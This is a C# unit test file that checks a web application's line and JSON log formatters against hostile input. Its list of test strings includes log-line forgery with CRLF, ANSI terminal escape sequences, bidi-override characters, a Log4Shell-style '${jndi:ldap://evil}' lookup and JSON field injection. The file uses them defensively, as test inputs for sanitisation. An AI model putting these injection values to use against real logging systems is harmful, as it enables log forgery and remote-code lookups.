using System.Globalization;
using System.Text;
using System.Text.Json;
using FrameworkAdvisor.Web.Hosting.Logs;
using Microsoft.Extensions.Logging;
using Microsoft.Extensions.Logging.Abstractions;
using Microsoft.Extensions.Logging.Console;

namespace FrameworkAdvisor.Web.Tests.Hosting.Logs;

public sealed class LogFormatTests
{
    private static readonly string[] hostile =
    [
        "a\r\n2026-11-21T12:00:00.000Z information FrameworkAdvisor: Started",
        "\u001b[2J\u001b[31mred\u001b]0;title\u0007",
        "\0\u0001\b\f\v\u007f\u0080\u009b1A",
        "\u2028next\u2029next\u0085next",
        "\u202Eevil\u2066\u200F\u200B\uFEFF",
        "lone \uD800 and \uDC00 halves",
        "{Status} {0} {} %s %n ${jndi:ldap://evil}",
        "\"}\n{\"level\":\"information\"",
        new string('a', 1_000_000),
        new string('ü', 100_000),
        string.Concat(Enumerable.Repeat("😀", 10_000)),
        new string('"', 100_000),
        new string('\n', 100_000),
    ];

    public static TheoryData<string> Formats() => [LineFormat.FormatName, JsonFormat.FormatName];

    [Theory]
    [MemberData(nameof(Formats))]
    public void Whatever_is_logged_is_one_line_that_is_safe_to_look_at(string format)
    {
        var random = new Random(11);
        var texts = hostile.Concat(Enumerable.Range(0, 500).Select(_ => Noise(random))).ToList();
        foreach (var text in texts)
        {
            var line = Write(format, "Failed: {Path} {Agent}", new InvalidOperationException(text), ("Path", text), ("Agent", text), ("Other", text));

            Assert.EndsWith("\n", line, StringComparison.Ordinal);
            Assert.InRange(Encoding.UTF8.GetByteCount(line), 1, LineFormat.MostBytes);
            Assert.DoesNotContain(line[..^1].EnumerateRunes(), rune => Rune.GetUnicodeCategory(rune) is UnicodeCategory.Control or UnicodeCategory.Format or UnicodeCategory.LineSeparator or UnicodeCategory.ParagraphSeparator or UnicodeCategory.Surrogate);
            if (format == JsonFormat.FormatName)
            {
                using var parsed = JsonDocument.Parse(line);
                Assert.Equal("error", parsed.RootElement.GetProperty("level").GetString());
                Assert.Single(parsed.RootElement.EnumerateObject(), member => member.Name == "level");
            }
        }
    }

    [Fact]
    public void A_line_for_people_says_when_how_grave_where_and_what()
    {
        Assert.Equal("2026-11-21T12:00:00.000Z error Some.Category: Failed: /compare\n", Write(LineFormat.FormatName, "Failed: {Path}", null, ("Path", "/compare")));
        var story = Write(LineFormat.FormatName, "Failed: {Path}", new InvalidOperationException("first\nsecond"), ("Path", "/compare"));
        Assert.Equal("2026-11-21T12:00:00.000Z error Some.Category: Failed: /compare | System.InvalidOperationException: first\\nsecond\n", story);
    }

    [Fact]
    public void A_line_for_programs_gives_by_name_what_the_message_is_made_of()
    {
        using var line = JsonDocument.Parse(Write(JsonFormat.FormatName, "Answered {Status}: {Route}", new InvalidOperationException("first\nsecond"), ("Status", 500), ("Route", "compare")));

        Assert.Equal(
            ["at=2026-11-21T12:00:00.000Z", "level=error", "category=Some.Category", "event=Thing", "message=Answered 500: compare", "status=500", "route=compare", "exception=System.InvalidOperationException: first\nsecond"],
            line.RootElement.EnumerateObject().Select(member => $"{member.Name}={member.Value}"));
    }

    private static string Write(string format, string template, Exception? failure, params (string Name, object Value)[] fields)
    {
        var clock = new FixedClock();
        ConsoleFormatter formatter = format == JsonFormat.FormatName ? new JsonFormat(clock) : new LineFormat(clock);
        using var writer = new StringWriter(CultureInfo.InvariantCulture);
        var state = fields.Select(field => new KeyValuePair<string, object?>(field.Name, field.Value)).Append(new("{OriginalFormat}", template)).ToList();
        var message = fields.Aggregate(template, (text, field) => text.Replace($"{{{field.Name}}}", Convert.ToString(field.Value, CultureInfo.InvariantCulture), StringComparison.Ordinal));
        formatter.Write(new LogEntry<IReadOnlyList<KeyValuePair<string, object?>>>(LogLevel.Error, "Some.Category", new EventId(1, "Thing"), state, failure, (_, _) => message), null, writer);
        return writer.ToString();
    }

    private static string Noise(Random random) => string.Concat(Enumerable.Range(0, random.Next(1, 3000)).Select(_ => (char)random.Next(0, random.Next(2) == 0 ? 0x100 : 0x10000)));

    private sealed class FixedClock : TimeProvider
    {
        public override DateTimeOffset GetUtcNow() => AdvisorSite.Now;
    }
}
